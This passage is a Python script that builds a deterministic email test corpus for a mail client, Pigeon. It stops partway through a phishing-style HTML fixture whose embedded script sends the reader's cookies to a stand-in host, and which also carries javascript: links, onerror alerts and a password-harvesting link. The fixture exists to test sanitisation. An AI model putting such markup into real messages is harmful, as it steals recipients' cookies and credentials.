#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
#
# make-corpus.py - generate Pigeon's test mail corpus (tests/data/mail/).
#
# Copyright The Pigeon authors
#
# Every .eml fixture in tests/data/mail/, plus MANIFEST.tsv and README.md,
# is written by this script.  The committed files are the fixtures; this
# script documents how they were made and can rebuild them.  It must stay
# deterministic: running it twice gives byte-identical output on any
# machine with Python >= 3.9 (stdlib only).  To that end it
#
#   * never uses time, randomness, the locale or the `email` package to
#     produce output (everything is spelled out byte by byte);
#   * derives "random" bytes from SHAKE-256 of a fixed seed;
#   * writes PNG/ZIP data with *stored* (uncompressed) deflate blocks,
#     because zlib's compressed output differs between zlib builds;
#   * embeds the one JPEG as a constant (it was made once with
#     `convert -size 64x48 gradient:'#3a7bd5-#f6d365' -fill '#c0392b'
#      -draw 'circle 32,24 32,12' -fill '#ffffff' -draw 'rectangle 6,6 18,10'
#      -strip -quality 82 -sampling-factor 2x2 jpg:img.jpg`).
#
# All people, organisations, addresses and texts are invented.  Domains
# are under example.com / example.org / example.net; IP addresses come
# from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
# 203.0.113.0/24, 2001:db8::/32).
#
# Usage:  make-corpus.py [--out DIR]     (default: ../data/mail next to
#                                          this script)
# Then run check-corpus.py DIR.

import base64
import binascii
import hashlib
import os
import struct
import sys
import zlib

CRLF = "\r\n"
LF = "\n"

FIXTURES = []  # (filename, tags, description, builder)

TAG_VOCABULARY = [
    "plain", "html", "alternative", "attachment", "nested", "encoded-header",
    "thread", "large", "malformed", "dot-lines", "hostile-filename", "list",
    "signed", "encrypted", "calendar", "report", "related",
]  # plus charset-<name>


def fixture(name, tags, desc):
    def deco(fn):
        for t in tags.split(","):
            assert t in TAG_VOCABULARY or t.startswith("charset-"), (name, t)
        FIXTURES.append((name, tags, desc, fn))
        return fn
    return deco


# ---------------------------------------------------------------------------
# Byte helpers

def wire(*chunks, eol=CRLF):
    """Join str (encoded as UTF-8) and bytes chunks written with '\\n'
    line ends, then convert every '\\n' to EOL."""
    out = b"".join(c.encode("utf-8") if isinstance(c, str) else c
                   for c in chunks)
    assert b"\r" not in out, "use raw bytes for deliberate CRs"
    assert b"@@" not in out, "unreplaced template marker"
    if eol == CRLF:
        out = out.replace(b"\n", b"\r\n")
    return out


def T(text, **kw):
    """Tiny template: replaces @@KEY@@ markers."""
    for k, v in kw.items():
        text = text.replace("@@" + k + "@@", v)
    assert "@@" not in text, text[text.index("@@"):][:40]
    return text


def shake(seed, n):
    """Deterministic pseudo-random bytes."""
    return hashlib.shake_256(seed.encode("ascii")).digest(n)


def b64(data, width=76):
    s = base64.b64encode(data).decode("ascii")
    return "".join(s[i:i + width] + "\n" for i in range(0, len(s), width))


def qp(data, width=76):
    """Quoted-printable encode DATA (bytes with '\\n' line ends)."""
    if isinstance(data, str):
        data = data.encode("utf-8")
    out = []
    lines = data.split(b"\n")
    for n, line in enumerate(lines):
        toks = []
        for i, b in enumerate(line):
            last = i == len(line) - 1
            if b in (0x20, 0x09) and last:
                toks.append("=%02X" % b)
            elif (33 <= b <= 126 and b != 0x3D) or b in (0x20, 0x09):
                toks.append(chr(b))
            else:
                toks.append("=%02X" % b)
        cur = ""
        for tok in toks:
            if len(cur) + len(tok) > width - 1:
                out.append(cur + "=")
                cur = ""
            cur += tok
        if n < len(lines) - 1 or cur:
            out.append(cur)
    return "\n".join(out) + ("\n" if data.endswith(b"\n") else "")


def _q_word(b):
    s = ""
    for x in b:
        c = chr(x)
        if x == 0x20:
            s += "_"
        elif x < 128 and (c.isalnum() or c in "!*+-/"):
            s += c
        else:
            s += "=%02X" % x
    return s


def _ew(text, cs, mode):
    raw = text.encode(cs) if isinstance(text, str) else text
    if mode.upper() == "B":
        body = base64.b64encode(raw).decode("ascii")
    else:
        body = _q_word(raw)
    return "=?%s?%s?%s?=" % (cs, mode, body)


def ew(text, cs="utf-8", mode="B", limit=75, sep="\n "):
    """RFC 2047 encode TEXT, split into words of at most LIMIT characters
    at character boundaries, joined by SEP (folding whitespace)."""
    words, cur = [], ""
    for ch in text:
        if cur and len(_ew(cur + ch, cs, mode)) > limit:
            words.append(_ew(cur, cs, mode))
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(_ew(cur, cs, mode))
    return sep.join(words)


def pct(text, cs="utf-8"):
    """RFC 2231 percent-encoding."""
    raw = text.encode(cs) if isinstance(text, str) else text
    return "".join(chr(b) if (b < 128 and (chr(b).isalnum() or chr(b) in "-._~!$&+^`|"))
                   else "%%%02X" % b for b in raw)


def dkim(domain, selector, seed, h="from:to:subject:date:message-id",
         t=1741080000, indent="\t"):
    """A plausible-looking (fake, unverifiable) DKIM-Signature header."""
    bh = base64.b64encode(hashlib.sha256(seed.encode()).digest()).decode()
    sig = base64.b64encode(shake(seed + "/b", 256)).decode()
    lines = ["DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s;" % domain,
             "%ss=%s; t=%d; h=%s;" % (indent, selector, t, h),
             "%sbh=%s;" % (indent, bh),
             "%sb=%s" % (indent, sig[:70])]
    for i in range(70, len(sig), 76):
        lines.append(indent + sig[i:i + 76])
    return "\n".join(lines) + "\n"


def crc24(data):
    crc = 0xB704CE
    for b in data:
        crc ^= b << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def armor(kind, data, headers=""):
    body = base64.b64encode(data).decode()
    lines = ["-----BEGIN PGP %s-----" % kind]
    if headers:
        lines.append(headers)
    lines.append("")
    lines += [body[i:i + 64] for i in range(0, len(body), 64)]
    lines.append("=" + base64.b64encode(crc24(data).to_bytes(3, "big")).decode())
    lines.append("-----END PGP %s-----" % kind)
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------------------
# Binary payloads

def stored_zlib(data):
    """zlib stream using only stored deflate blocks (reproducible)."""
    out = bytearray(b"\x78\x01")
    if not data:
        out += b"\x01\x00\x00\xff\xff"
    for i in range(0, len(data), 65535):
        block = data[i:i + 65535]
        final = 1 if i + 65535 >= len(data) else 0
        out += bytes([final]) + struct.pack("<HH", len(block), len(block) ^ 0xFFFF)
        out += block
    out += struct.pack(">I", zlib.adler32(data) & 0xFFFFFFFF)
    return bytes(out)


def png(w, h, pixel):
    """RGB PNG; PIXEL(x, y) -> (r, g, b)."""
    raw = bytearray()
    for y in range(h):
        raw.append(0)
        for x in range(w):
            raw += bytes(pixel(x, y))

    def chunk(typ, data):
        return (struct.pack(">I", len(data)) + typ + data +
                struct.pack(">I", zlib.crc32(typ + data) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"tEXt", b"Software\x00pigeon make-corpus.py") +
            chunk(b"IDAT", stored_zlib(bytes(raw))) +
            chunk(b"IEND", b""))


def png_logo(x, y):
    """24x24 'pigeon' badge: blue disc with a white dot, on light grey."""
    dx, dy = x - 12, y - 12
    if dx * dx + dy * dy <= 100:
        if (x - 15) ** 2 + (y - 9) ** 2 <= 4:
            return (255, 255, 255)
        return (40, 90 + 4 * y, 200)
    return (238, 238, 236)


def png_chart(x, y):
    """40x24 bar chart."""
    heights = [6, 11, 9, 17, 14, 20, 8]
    col = (x - 2) // 5
    if 0 <= col < len(heights) and (x - 2) % 5 != 4 and 23 - y < heights[col]:
        return (52, 101, 164) if col % 2 == 0 else (115, 210, 22)
    if y == 23 or x == 1:
        return (46, 52, 54)
    return (255, 255, 255)


def png_screenshot(x, y):
    """64x40 fake window screenshot."""
    if y < 6:
        return (53, 132, 228) if x < 58 else (224, 27, 36)
    if x < 16:
        return (246, 245, 244) if (y // 5) % 2 else (222, 221, 218)
    if (y - 8) % 6 in (0, 1) and 18 <= x <= 18 + ((x * 7 + y * 3) % 40):
        return (94, 92, 100)
    return (255, 255, 255)


JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAYEBAUEBAYFBQUGBgYHCQ4JCQgICRINDQoOFRIW"
    "FhUSFBQXGiEcFxgfGRQUHScdHyIjJSUlFhwpLCgkKyEkJST/2wBDAQYGBgkICREJCREkGBQY"
    "JCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCT/wAAR"
    "CAAwAEADASIAAhEBAxEB/8QAGgAAAwEAAwAAAAAAAAAAAAAAAAUGBwECA//EADIQAAEDAwIE"
    "AgcJAAAAAAAAAAEAAgMEFGEFEQYSMUEhkQcTF1GCwdIiMlRVcYGTpLH/xAAbAQABBQEBAAAA"
    "AAAAAAAAAAAAAgMEBQYHAf/EACkRAAAGAQIEBgMAAAAAAAAAAAABAgMEERQFYQYjQfASITEz"
    "UXGBofH/2gAMAwEAAhEDEQA/AOdK0Gs1qvioKCH11TLvyM5g3fYEnxJA6Aqg9kfF/wCT/wBm"
    "H6l46DqNRw9qsGp0jInzQc3K2UEtO7S077EHoT3Vf7X+Ifwel/xyfWtQ9qD5K5VVuM+1FZrm"
    "XewzzW+F9S4dqmUmqU1vM+MStbztfu0kjfdpI6gpfbYVZxPr1ZxVXx11dFTxyRxCECFpDeUE"
    "nuT4/aKk6rWaSncWRgzOHdv3fNeq1dLKCU+oiMOx9JdlOGiMg1d9egLbCLbC6U+uU0rg2WN0"
    "W/fqE3bA17Q5pDmkbgjoUpjWGnyttVgl6PIiGSX0Gnv5LyCu2wi2wmtthFthP5+4h4wbW2EW"
    "2E1tsItsLFZ4vsYR/Fc5oqBsTDs6d3L8I6/LzUar3jvS3yadFVMYTbvPNt2a7v5gKCVNNeN1"
    "yzHReGm20Qi8PrZ39/ygKo4PqDM2ajed+Qc7MDfx+XmpdWPAGmPe6prnNIZsImH3+O5/wJMN"
    "023SUQe4gbbXBWS9q+77/AeW2EW2E1tsItsK7zxzTGDa2wi2wm1thFthYnP3F9jBPJRNlY6O"
    "RjXscC1zXDcEe4qM1X0XtlkdJplUIQekUoJA/R3Xb9itLtsItsIzhKiuPRjto6sZdp3otlEj"
    "XajWM5AfGOAE83xHbbyVtS6XDRU7KenibHFGNmtHZO7bCLbCM4gqU8/J907L9BTbYRbYTa2w"
    "i2wjP3EPGH//2Q==")


def pdf(title, lines):
    """A small, valid single-page PDF (uncompressed content stream)."""
    def esc(s):
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = "BT\n/F1 11 Tf\n14 TL\n72 770 Td\n"
    content += "/F2 16 Tf\n(%s) Tj\nT*\n/F1 11 Tf\nT*\n" % esc(title)
    for ln in lines:
        content += "(%s) '\n" % esc(ln)
    content += "ET\n"
    cbytes = content.encode("latin-1")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]\n"
        b"   /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >>\n"
        b"   /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(cbytes) + cbytes + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >>",
        ("<< /Title (%s) /Producer (Pigeon corpus generator)\n"
         "   /CreationDate (D:20250303091500+01'00') >>" % esc(title)).encode("latin-1"),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, xref))
    return bytes(out)


def stored_zip(files):
    """ZIP archive with stored members and a fixed timestamp."""
    out = bytearray()
    central = bytearray()
    dostime, dosdate = (9 << 11) | (15 << 5), ((2025 - 1980) << 9) | (3 << 5) | 3
    for name, data in files:
        nb = name.encode("ascii")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, dostime, dosdate,
                           crc, len(data), len(data), len(nb), 0) + nb + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0,
                               dostime, dosdate, crc, len(data), len(data),
                               len(nb), 0, 0, 0, 0, 0, off) + nb
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files),
                       len(central), cd_off, 0)
    return bytes(out)


def odt(text):
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
               ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
               '<office:body><office:text><text:p>%s</text:p></office:text></office:body>'
               '</office:document-content>\n' % text).encode("utf-8")
    manifest = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">\n'
                b' <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>\n'
                b' <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\n'
                b'</manifest:manifest>\n')
    return stored_zip([("mimetype", b"application/vnd.oasis.opendocument.text"),
                       ("content.xml", content),
                       ("META-INF/manifest.xml", manifest)])


def pgp_signature(seed):
    fpr = hashlib.sha1(seed.encode()).digest()
    body = (b"\x04\x01\x16\x08\x00\x1d\x16\x21\x04" + fpr + b"\x05\x02\x67\xc7\x2a\x10"
            + b"\x00\x0a\x09\x10" + fpr[-8:] + shake(seed, 117 - 47))
    return b"\x88\x75" + body


def pgp_message(seed, n=540):
    keyid = hashlib.sha1(seed.encode()).digest()[-8:]
    pkesk = b"\x84\x5e\x03" + keyid + b"\x12\x01\x07\x40" + shake(seed + "/k", 0x5e - 13)
    rest = n - len(pkesk) - 3
    seipd = b"\xd2\xcd" + bytes([rest + 1 - 192 if rest < 200 else 0]) + b"\x01"
    return pkesk + seipd + shake(seed + "/d", rest - 1)


def der_blob(seed, oid_prefix, n):
    body = oid_prefix + shake(seed, n - 4 - len(oid_prefix))
    return b"\x30\x82" + struct.pack(">H", len(body)) + body


# ---------------------------------------------------------------------------
# Plain text

@fixture("001-plain-us-ascii.eml", "plain,charset-us-ascii",
         "Baseline: single-part text/plain us-ascii 7bit from Claws Mail, CRLF, "
         "standard Date, two Received hops.")
def _():
    return wire("""\
Return-Path: <ines.vasquez@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from mx2.mail.example.org
\tby imap1.mail.example.org with LMTP
\tid 2QkQFz7Kx2cVfQAAdB6s0A
\t(envelope-from <ines.vasquez@tallowmere.example.com>)
\tfor <pigeon-test@mail.example.org>; Tue, 04 Mar 2025 10:14:22 +0100
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))
\t(No client certificate requested)
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z6X2k1Qv9z9sRq
\tfor <pigeon-test@mail.example.org>; Tue,  4 Mar 2025 10:14:21 +0100 (CET)
Date: Tue, 4 Mar 2025 10:14:15 +0100
From: Ines Vasquez <ines.vasquez@tallowmere.example.com>
To: Pigeon Test <pigeon-test@mail.example.org>
Subject: Loading dock schedule for next week
Message-ID: <20250304101415.1f6e2a0b@ines-laptop.tallowmere.example.com>
Organization: Tallowmere Logistics
X-Mailer: Claws Mail 4.2.0 (GTK 3.24.41; x86_64-pc-linux-gnu)
MIME-Version: 1.0
Content-Type: text/plain; charset=US-ASCII
Content-Transfer-Encoding: 7bit

Hi,

Here is the loading dock schedule for the week of 10 March. Dock 3 is
closed on Wednesday for the resurfacing work, so the two morning
deliveries from Harbourline move to dock 2.

  Mon 10  06:00-09:00  Harbourline (2 trailers)     dock 1
  Tue 11  07:30-10:00  Brightwater Co-op (produce)  dock 2
  Wed 12  06:00-08:00  Harbourline (moved)          dock 2
  Thu 13  13:00-15:30  Kestrel returns              dock 1
  Fri 14  06:00-09:00  Harbourline (2 trailers)     dock 1

If a driver turns up outside these windows, please ask them to wait in
the yard rather than the access road; the neighbours have complained
twice this month.

Thanks,
Ines

--\x20
Ines Vasquez - Yard Coordinator
Tallowmere Logistics, Unit 7, Quayside Estate
""")


@fixture("002-plain-utf8-8bit.eml", "plain,charset-utf-8",
         "text/plain UTF-8 sent as raw 8bit by Thunderbird (format=flowed, no delsp); "
         "German, Polish, Greek, Vietnamese and Icelandic text for charset handling and "
         "accent-insensitive search.")
def _():
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z6YmD0xQ3z9sT1
\tfor <pigeon-test@mail.example.org>; Tue,  4 Mar 2025 18:02:40 +0100 (CET)
Message-ID: <b1d2a8f4-7c0e-4f1a-9e62-58a3c4d7e901@brightwater.example.net>
Date: Tue, 4 Mar 2025 18:02:31 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: Chorprobe <pigeon-test@mail.example.org>
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Subject: Chorprobe am Donnerstag / choir rehearsal on Thursday
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Liebe Sängerinnen und Sänger,

die Probe am Donnerstag findet ausnahmsweise im Gemeindesaal statt, nicht
in der Aula. Bitte bringt die Noten für „Die Nachtigall“ und das
Straßenlied mit. Kaffee und Kuchen gibt es danach – wie immer gegen eine
kleine Spende für die Chorkasse (ca. 2 €).

Dla naszych gości z Gdańska: próba zaczyna się o 19:30, wejście od
ulicy Różanej. Proszę nie zapomnieć żółtych teczek z nutami.

Για τους φίλους μας από τη Θεσσαλονίκη: η πρόβα αρχίζει στις 19:30.

Chào các bạn ở Đà Nẵng: buổi tập bắt đầu lúc 19 giờ 30.

Og fyrir Íslendingana: æfingin byrjar klukkan hálf átta. Þökk fyrir!

Viele Grüße
Tobias

--\x20
Tobias Brandt · Brightwater Chor e.V. · Kassenwart
""")


@fixture("003-plain-quoted-printable.eml", "plain,charset-utf-8",
         "text/plain UTF-8 quoted-printable from Evolution: soft line breaks, =3D, "
         "encoded trailing whitespace, encoded non-ASCII.")
def _():
    body = """\
Hello team,

The new retention policy is live as of this morning. In short: mail older than 24 months is moved to the archive store, and the archive store is searchable but read-only. The formula we agreed on is retention_days = 730 + grace_days, where grace_days = 14 for shared mailboxes.\x20\x20
A few things to note:

  * Déjà-vu warning: the old "keep forever" flag is gone — it was never honoured anyway.
  * Attachments larger than 25 MB are stored once and referenced by hash…
  * The key=value pairs in the audit log now use "=" without spaces, e.g. user=priya action=restore.\t
Questions to me or to Dónal.

Cheers,
Priya
"""
    return wire("""\
Return-Path: <priya.r@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from out.kestrel.example.org (out.kestrel.example.org [192.0.2.77])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z6Z0b2yHlz9sVb
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 09:31:07 +0000 (UTC)
Message-ID: <3c0f4a1b9e8d7c6b5a4f3e2d1c0b9a87.camel@kestrel.example.org>
Subject: Mailbox retention policy is live
From: Priya Raghunathan <priya.r@kestrel.example.org>
To: it-staff@kestrel.example.org
Cc: Pigeon Test <pigeon-test@mail.example.org>
Date: Wed, 05 Mar 2025 09:31:02 +0000
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable
User-Agent: Evolution 3.50.3 (by Flathub.org)
MIME-Version: 1.0

""", qp(body))


@fixture("004-plain-format-flowed-delsp.eml", "plain,charset-utf-8",
         "text/plain; format=flowed; delsp=yes (8bit UTF-8): soft breaks with "
         "double trailing space, a delsp break inside Japanese text, flowed quotes, "
         "space-stuffed 'From ' and '>' lines, '-- ' signature.")
def _():
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z6ZsQ5pJtz9sRr
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 11:47:12 +0100 (CET)
From: Margit Salo <margit.salo@tallowmere.example.com>
Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes
Content-Transfer-Encoding: 8bit
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: Re: Draft of the travel guidelines
Date: Wed, 5 Mar 2025 11:47:03 +0100
References: <20250304155210.GA7731@priya-ws.kestrel.example.org>
To: Priya Raghunathan <priya.r@kestrel.example.org>
Cc: pigeon-test@mail.example.org
In-Reply-To: <20250304155210.GA7731@priya-ws.kestrel.example.org>
Message-Id: <8E1F0C2A-4B3D-4C5E-9F60-7A8B9C0D1E2F@tallowmere.example.com>
X-Mailer: Apple Mail (2.3826.400.131.1.6)

Hi Priya,

Thanks for sending the draft over. I read it on the train this morning\x20\x20
and I only have a few notes; most of it is ready to go to the works\x20\x20
council as it is.

1. The per-diem table still lists the 2023 rates. The finance team\x20\x20
published the new ones in January.
2. Please spell out that rail is preferred for trips under six hours,\x20\x20
door to door.

Our Tokyo office asked for a Japanese summary; Yuki sent this line:

日本語の文章は単語の間に\x20
スペースがありません。

> Could you also check the section on retention periods for\x20\x20
> receipts? I was not sure whether seven or ten years applies.
>
>> Ten years for anything that goes into the annual accounts, seven\x20\x20
>> otherwise.

That matches what our auditor said.

 From now on I will send comments as tracked changes instead.
 >this line starts with a greater-than sign but is not a quote.

Margit

--\x20
Margit Salo
Tallowmere Logistics
""")


@fixture("005-plain-lf-only-mutt.eml", "plain,charset-us-ascii,dot-lines",
         "NeoMutt reply stored with bare LF line endings only; body quotes a shell "
         "session whose output has lines '.', '..' and '.muttrc' (dot-stuffing), "
         "plus '-- ' signature.")
def _():
    return wire("""\
Return-Path: <jkoehler@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from shell.kestrel.example.org (shell.kestrel.example.org [IPv6:2001:db8:4a::25])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7B1m6qN8z9sVd
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 21:03:49 +0000 (UTC)
Date: Wed, 5 Mar 2025 21:03:44 +0000
From: Jens Koehler <jkoehler@kestrel.example.org>
To: Pigeon Test <pigeon-test@mail.example.org>
Subject: Re: where does mutt keep its config?
Message-ID: <20250305210344.GB30411@shell.kestrel.example.org>
References: <Z8i7dQ2pX1kM4aF0@laptop.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline
In-Reply-To: <Z8i7dQ2pX1kM4aF0@laptop.example.net>
User-Agent: NeoMutt/20231103

On Wed, Mar 05, 2025 at 08:40:12PM +0100, pigeon-test@mail.example.org wrote:
> I can't find my muttrc. Where does it live these days?

Either ~/.muttrc or ~/.config/mutt/muttrc. On my box:

    $ ls -a ~ | head -4
.
..
.cache
.muttrc

(sorry, my paste lost the indentation). The first two lines of that
listing are the directory itself and its parent. If you have both files,
~/.muttrc wins.

..and before you ask: yes, the header cache lives in ~/.cache/mutt.

Jens
--\x20
Jens Koehler  <jkoehler@kestrel.example.org>
"There are only two hard problems: caching, naming, and off-by-one."
""", eol=LF)


# ---------------------------------------------------------------------------
# HTML

@fixture("006-alternative-text-html.eml", "alternative,html,plain,charset-utf-8",
         "Gmail-style multipart/alternative (text/plain + text/html, both QP UTF-8) "
         "with a quoted reply in gmail_quote divs.")
def _():
    text = """\
Hi!

Yes, Saturday works for me. I'll bring the folding tables and the
extension cords; can someone else bring the gazebo?

Here's the map: https://maps.example.com/?q=Kelso+Park+north+entrance

Seun

On Thu, 6 Mar 2025 at 19:20, Chen Wei <chen.wei@kestrel.example.net> wrote:

> Is everyone free this Saturday for the repair café set-up? We need at
> least four people from 9 am.
>
> Wei
>
"""
    html = """\
<div dir="ltr"><div>Hi!</div><div><br></div><div>Yes, Saturday works for me. I&#39;ll bring the folding tables and the extension cords; can someone else bring the gazebo?</div><div><br></div><div>Here&#39;s the map: <a href="https://maps.example.com/?q=Kelso+Park+north+entrance">https://maps.example.com/?q=Kelso+Park+north+entrance</a></div><div><br></div><div>Seun</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Thu, 6 Mar 2025 at 19:20, Chen Wei &lt;<a href="mailto:chen.wei@kestrel.example.net">chen.wei@kestrel.example.net</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Is everyone free this Saturday for the repair café set-up? We need at least four people from 9 am.<div><br></div><div>Wei</div></div>
</blockquote></div>
"""
    return wire("""\
Delivered-To: pigeon-test@mail.example.org
Received: by 2002:a05:6402:1e8d:b0:5e4:9a1c:3f10 with SMTP id n13csp412907edz;
        Thu, 6 Mar 2025 10:42:18 -0800 (PST)
X-Received: by 2002:a17:907:7e9e:b0:ac1:f2a0:77d1 with SMTP id qb30-20020a1709077e9e00b00ac1f2a077d1mr41529ejc.12.1741286538114;
        Thu, 06 Mar 2025 10:42:18 -0800 (PST)
Return-Path: <seun.adeyemi@example.com>
Received: from mail-sor-f41.example.com (mail-sor-f41.example.com. [198.51.100.41])
        by mx.example.com with SMTPS id a640c23a62f3a-ac1e4b3c7d2sor1184216366b.3.2025.03.06.10.42.17
        for <pigeon-test@mail.example.org>
        (Google Transport Security);
        Thu, 06 Mar 2025 10:42:17 -0800 (PST)
""", dkim("example.com", "20230601", "006",
          "to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to",
          t=1741286537, indent="        "), """\
MIME-Version: 1.0
References: <CAH3x9qK7mT2Rw+Lx0fJbZ8uN5sQ4vY1cE6dP3aW9gH2kM7nB1Q@mail.example.net>
In-Reply-To: <CAH3x9qK7mT2Rw+Lx0fJbZ8uN5sQ4vY1cE6dP3aW9gH2kM7nB1Q@mail.example.net>
From: Oluwaseun Adeyemi <seun.adeyemi@example.com>
Date: Thu, 6 Mar 2025 19:42:06 +0100
X-Gm-Features: AQ5f1JqN3rT7xW2mZk9Lp4Yv8Bc6Hd1Gf0Sa5Ue3Io7Ky2Nw
Message-ID: <CAKp5vN0mE2dF8rT6wY3hJ9kL1qZ4xB7cV0nS2aG5uI8oP3yR6w@mail.example.com>
Subject: Re: Repair cafe set-up on Saturday
To: Chen Wei <chen.wei@kestrel.example.net>
Cc: pigeon-test@mail.example.org
Content-Type: multipart/alternative; boundary="0000000000009b3e42062faf1c8d"

--0000000000009b3e42062faf1c8d
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

""", qp(text), """\

--0000000000009b3e42062faf1c8d
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

""", qp(html), """\

--0000000000009b3e42062faf1c8d--
""")


@fixture("007-html-only-hostile-markup.eml", "html,charset-utf-8",
         "Phishing-style single-part text/html (QP): <style>, <script>, HTML comments "
         "and IE conditional comments, javascript:/data: links, <form>, <iframe>, <base>, "
         "meta refresh, remote images with onerror, lists, tables and named/numeric entities.")
def _():
    html = """\
<!DOCTYPE html>
<html lang="en">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta http-equiv="refresh" content="30;url=https://mailbox-verify.example.net/r?id=77">
<base href="https://mailbox-verify.example.net/">
<title>Mailbox quota notice</title>
<style type="text/css">
  body { font-family: Arial, sans-serif; background: url('https://cdn.mailbox-verify.example.net/bg.png'); }
  .btn { background:#0b5fff; color:#fff !important; padding:10px 18px; border-radius:4px; }
  @import url("https://cdn.mailbox-verify.example.net/track.css");
  .hidden { display:none }
</style>
<script type="text/javascript">
  // harmless test payload: a summariser must never run or show this
  document.write('<img src="https://mailbox-verify.example.net/js-ran.gif">');
  window.location = "https://mailbox-verify.example.net/stolen?c=" + document.cookie;
</script>
</head>
<body onload="alert('onload')">
<!-- campaign=quota-2025-03 ; template v7 ; do not remove -->
<!--[if mso]><table><tr><td>Outlook only &mdash; hidden elsewhere</td></tr></table><![endif]-->
<div class="hidden">preheader: your mailbox is 99&#37; full</div>
<table width="600" cellpadding="0" cellspacing="0" border="0" align="center">
<tr><td>
<img src="https://cdn.mailbox-verify.example.net/logo.png" alt="Mail&nbsp;Admin" width="120" height="40" onerror="alert(1)">
<h1 style="color:#c01c28">Action required: mailbox quota exceeded</h1>
<p>Dear user,</p>
<p>Your mailbox has reached <b>99&percnt;</b> of its quota &ndash; incoming messages
will be rejected after <i>24&nbsp;hours</i>. To avoid losing mail:</p>
<ol>
  <li>Click <a class="btn" href="javascript:alert('gotcha')">Verify now</a></li>
  <li>Enter your password on the <a href="http://198.51.100.66/login.php?u=pigeon-test@mail.example.org">secure&nbsp;portal</a></li>
  <li>Keep this message for your records &copy; 2025</li>
</ol>
<ul>
  <li>Quota: 2&#x202F;GB</li>
  <li>Used: 1.98&#8239;GB &asymp; 99&#x25;</li>
